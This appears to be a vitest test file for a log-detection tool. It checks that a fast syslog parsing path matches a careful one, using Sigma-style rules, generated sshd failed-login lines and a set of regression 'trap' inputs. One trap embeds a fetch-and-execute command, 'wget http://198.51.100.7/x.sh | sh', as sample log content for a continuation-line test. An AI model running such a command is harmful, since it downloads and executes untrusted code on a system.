/** The fast way through syslog gives the same as the careful one, whatever the numbers in the lines. */
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { chooseRules } from '../../src/detect/choose-rules.ts';
import { createPlan, type Plan } from '../../src/detect/plan.ts';
import type { ScanResult } from '../../src/detect/scan-task.ts';
import { format as syslog } from '../../src/logs/formats/syslog.ts';
import { listed, scanPiece, written } from './both-ways.ts';

const DATA = resolve(import.meta.dirname, '../../../shared/data');
const FOLDERS = ['loghub', 'lnav', 'fail2ban', 'ossec-tests', 'crowdsec-hub', 'plaso'];

/** Rules that look at the numbers, the stamp, or the whole line. */
const NOSY = [
  ['a number by its digits', 'keywords:\n    - "4123"\n  condition: keywords'],
  ['a port range', 'keywords:\n    "|re": "port 4[0-9]{4} "\n  condition: keywords'],
  ['a process id', 'selection:\n    process.pid|lt: 5000\n  condition: selection'],
  ['a source port', 'selection:\n    source.port|endswith: "7"\n  condition: selection'],
  [
    'a source port that is there',
    'selection:\n    source.port|exists: true\n  condition: selection',
  ],
  ['no source port', 'selection:\n    source.port: null\n  condition: selection'],
  ['the month', 'keywords:\n    - "dec "\n  condition: keywords'],
  ['the stamp and the host', 'keywords:\n    - "7 combo"\n    - "5 LabSZ"\n  condition: keywords'],
  ['text and a number', 'selection:\n    message|contains: "port 5"\n  condition: selection'],
  ['a wildcard', 'selection:\n    message: "*port ?7* ssh2"\n  condition: selection'],
  ['a network', 'selection:\n    source.ip|cidr: 128.0.0.0/1\n  condition: selection'],
] as const;

const ruleText = ([title, detection]: readonly [string, string], index: number): string =>
  `title: ${title}
id: 00000000-0000-4000-8000-${String(index).padStart(12, '0')}
status: test
level: medium
logsource:
  product: linux
detection:
  ${detection}
`;

let folder: string;
let plan: Plan;

/** The bundled rules and those of a folder. */
async function planOf(...ruleFolders: string[]): Promise<Plan> {
  const choice = await chooseRules({ env: {}, cwd: '/', ruleFolders, ruleNames: [] });
  expect(choice.problems).toEqual([]);
  return createPlan(choice.ruleSet);
}

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'ir-shapes-'));
  plan = await planOf();
}, 60_000);
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** A generator of numbers that is the same in every run. */
function createRandom(): () => number {
  let state = 7;
  return () => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return state / 2 ** 32;
  };
}

/**
 * Each line several times, among others, with other numbers, seconds, and now and then a line that goes on. A shape is
 * learned from its third line, with three more parses: a few lines come more often, so that what they save shows.
 */
function manifold(lines: readonly string[]): string {
  const random = createRandom();
  const digit = (): string => String(Math.floor(random() * 10));
  const text: string[] = [];
  const turns = lines.length < 1000 ? 14 : 7;
  for (let turn = 0; turn < turns; turn += 1) {
    for (const line of lines) {
      const changed = line.replace(/(?<=[[ =(])\d{4,9}(?=[\])\s,:]|$)/g, (number) =>
        number.replace(/\d/g, digit),
      );
      text.push(
        changed.replace(
          /^(\w{3} [ \d]\d \d\d:\d\d:)\d\d/,
          `$1${digit().replace(/[6-9]/, '5')}${digit()}`,
        ),
      );
      if (random() < 0.002) text.push('    which goes on here', '');
    }
  }
  return `${text.join('\n')}\n`;
}

/** Reads `text` as syslog. @param isFast false: every line is read with care */
const scan = (
  text: string,
  isFast: boolean,
  chosen = plan,
  format = 'syslog',
): ReturnType<typeof scanPiece> => scanPiece(text, isFast, chosen, format);

function expectSame(lines: readonly string[]): ScanResult {
  const text = manifold(lines);
  const fast = scan(text, true);
  const careful = scan(text, false);
  expect(written(fast)).toEqual(written(careful));
  expect(fast.parses).toBeLessThan(careful.parses * 0.8);
  return fast;
}

it('reads the samples of the format alike', () => {
  const lines = syslog.samples.flatMap(({ lines }) => lines);
  const { account, rows, bursts } = expectSame([...lines, ...lines]);
  expect(account.parsed).toBeGreaterThan(200);
  expect([rows.count > 50, bursts.length > 3]).toEqual([true, true]);
});

it.runIf(existsSync(DATA)).each(FOLDERS)(
  'reads the syslog lines of %s alike',
  (name) => {
    const lines = readdirSync(join(DATA, name), { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && /log|txt/.test(entry.name))
      .flatMap((entry) => readFileSync(join(entry.parentPath, entry.name), 'utf8').split('\n'))
      .filter((line) => line.length < 2000 && syslog.detect(line))
      .slice(0, 6000);
    expect(lines.length).toBeGreaterThan(0);
    expectSame(lines);
  },
  120_000,
);

it.each(NOSY)('a rule on %s sees every line', async (...rule) => {
  const [title] = rule;
  const own = join(folder, title);
  mkdirSync(own);
  writeFileSync(join(own, 'rule.yml'), ruleText(rule, 1));
  const chosen = await planOf(own);
  const index = chosen.ruleSet.rules.findIndex((compiled) => compiled.rule.title === title);
  const lines = Array.from({ length: 3000 }, (_, turn) => {
    const port = 30_000 + ((turn * 7919) % 40_000);
    const stamp = `${turn % 2 === 0 ? 'Jul  1' : 'Dec 31'} 10:00:0${turn % 10}`;
    return `${stamp} combo sshd[${1000 + ((turn * 7) % 9000)}]: Failed password for root from 192.0.2.7 port ${port} ssh2`;
  });
  const text = `${lines.join('\n')}\n`;
  const hits = (isFast: boolean): number =>
    scan(text, isFast, chosen).bursts.reduce(
      (sum, burst) => sum + (burst.rule === index ? burst.count : 0),
      0,
    );
  expect(hits(true)).toBe(hits(false));
  expect(hits(false)).toBeGreaterThan(0);
  // Some match and some do not, so that a shape taken for the line would show.
  if (!title.startsWith('a network')) expect(hits(false)).toBeLessThan(lines.length);
});

const times = (count: number, line: (turn: number) => string): string =>
  Array.from({ length: count }, (_, turn) => `${line(turn)}\n`).join('');
const two = (value: number): string => String(value).padStart(2, '0');

/** Texts on which one way once differed from the other. */
const TRAPS: readonly (readonly [string, string, string])[] = [
  [
    'an address that the client wrote, eight slots before its own',
    'syslog',
    times(30, (turn) => {
      const written = turn < 4 ? '203.0.113.7' : '198.51.10.9';
      const numbers = ' 1111'.repeat(8);
      return `Mar  2 10:00:${two(turn)} host sshd[${4000 + turn}]: Bad protocol version identification 'x ${written}${numbers}' from 203.0.113.7 port ${40_000 + turn}`;
    }),
  ],
  [
    "a relay whose own clock stands still before the sender's",
    'syslog',
    times(360, (turn) => {
      const month = 'Jan Feb Mar Apr May Jun Jul Aug Sep Oct'.split(' ')[Math.floor(turn / 36)];
      const stamp = `${month} ${two(1 + (turn % 36) / 9).slice(0, 2)} 10:00:${two(turn % 60)}`;
      return `Jan  1 00:00:05 relay ${stamp} host sshd[${1000 + turn}]: Failed password for root from 203.0.113.7 port ${40_000 + turn} ssh2`;
    }),
  ],
  [
    'an audit record behind stamps of two forms',
    'syslog',
    times(12, (turn) => {
      const stamp = turn < 6 ? 'Mon 2026-12-07 14:19:00 UTC' : '2026-12-07T17:30:09.123456+00:00';
      return `${stamp} host kernel: audit: type=1400 audit(1700000000.123:77): apparmor="DENIED" pid=${22_128 + turn} comm="x"`;
    }),
  ],
  [
    'an indented line after a line that nobody knows',
    'syslog',
    times(
      8,
      (turn) =>
        `Mar  2 10:00:0${turn} host app[${1000 + turn}]: one\nwhat nobody knows\n   wget http://198.51.100.7/x.sh | sh`,
    ),
  ],
  [
    'a number with a leading zero where a port stands',
    'syslog',
    times(
      9,
      (turn) =>
        `Mar  2 10:00:0${turn} host kernel: [6108.003361] IN=eth0 OUT= MAC=00 SRC=113.68.135.207 DST=192.0.2.3 LEN=59 PROTO=TCP SPT=80 DPT=${turn < 6 ? 984_641 + turn : `05352${turn}`} SYN`,
    ),
  ],
  [
    'requests without a status, and lines of another log between',
    'access',
    times(9, (turn) => {
      const status = turn % 3 === 0 ? '-' : '200';
      const other = `Mar  2 10:00:0${turn} host app[7]: one`;
      return `113.127.229.86 - - [19/Jan/2026:15:02:2${turn} +0000] "GET / HTTP/1.1" ${status} 12 "-" "x"\n${other}\n113.127.229.86 - - [19/Jan/2026:15:02:2${turn} +0000] "GET / HTTP/1.1" 200 - "-" "x"\n  indented`;
    }),
  ],
];

it.each(TRAPS)('%s', (_, format, text) => {
  const counts = ({ account, totals, bursts }: ScanResult) => ({
    account,
    bursts,
    totals: { ...totals, sources: listed(totals.sources), echoes: listed(totals.echoes) },
  });
  const scanner = (isFast: boolean): ScanResult => scan(text, isFast, plan, format);
  const fast = scanner(true);
  const careful = scanner(false);
  // Access logs keep their sources to the end, and count hits instead of keeping them.
  if (format === 'access') {
    expect(fast.account).toEqual(careful.account);
    expect(fast.totals.events).toBe(careful.totals.events);
  } else {
    expect(counts(fast)).toEqual(counts(careful));
    expect(written(fast)).toEqual(written(careful));
  }
});
